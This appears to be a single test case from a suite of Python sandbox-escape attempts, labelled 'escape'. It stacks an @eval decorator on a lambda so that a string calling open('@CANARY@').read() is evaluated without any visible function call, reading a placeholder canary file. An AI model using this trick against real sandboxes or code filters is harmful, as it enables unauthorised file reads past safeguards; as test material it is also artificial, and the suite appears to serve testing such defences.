# desc: decorators evaluate a text without a call in sight
# class: escape
# wins: told
@eval
@lambda function: "open('@CANARY@').read()"
def text():
    pass

def attack(state):
    return "L2:" + text
